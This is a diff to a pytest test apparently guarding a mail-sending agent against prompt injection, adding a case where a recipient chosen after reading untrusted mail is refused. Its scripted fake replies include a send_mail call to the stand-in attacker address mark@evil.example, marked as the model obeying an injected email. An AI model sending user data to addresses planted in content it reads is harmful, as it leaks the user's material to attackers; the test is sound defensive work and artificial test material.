@@ -250,9 +250,12 @@ def test_provenance_rules_from_the_agent_file_stop_an_injected_recipient_and_pas
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     replies = [
+        Reply.calls(("send_mail", '{"to": "boss@corp.example", "body": "the report"}')),
         Reply.calls(("read_inbox", "{}")),
         Reply.calls(("send_mail", '{"to": "mark@evil.example", "body": "the report"}')),  # obeys the mail
-        Reply.calls(("send_mail", '{"to": "boss@corp.example", "body": "the report"}')),
+        # The directory vouches for a mailbox, not for the choice: once the run has read someone's
+        # text, a directory entry read from no system-assigned field goes to a reviewer.
+        Reply.calls(("send_mail", '{"to": "boss@corp.example", "body": "again"}')),
         Reply.text("Sent to my boss."),
     ]
     with FakeChatServer(scripted(replies)) as server:
@@ -264,7 +267,8 @@ def test_provenance_rules_from_the_agent_file_stop_an_injected_recipient_and_pas
     assert tools_prov29.SENT == ["boss@corp.example"]  # the directory's mailbox ran, the injected one did not
     denied = kinds(out, "policy_denied")
     assert [(d["rule"], d["details"]["problems"][0]["problem"]) for d in denied] == [
-        ("provenance", "untrusted_origin")
+        ("provenance", "untrusted_origin"),
+        ("provenance", "chosen_after_untrusted"),
     ]
     assert code == 2  # accepted with a refused call is not a clean success
 
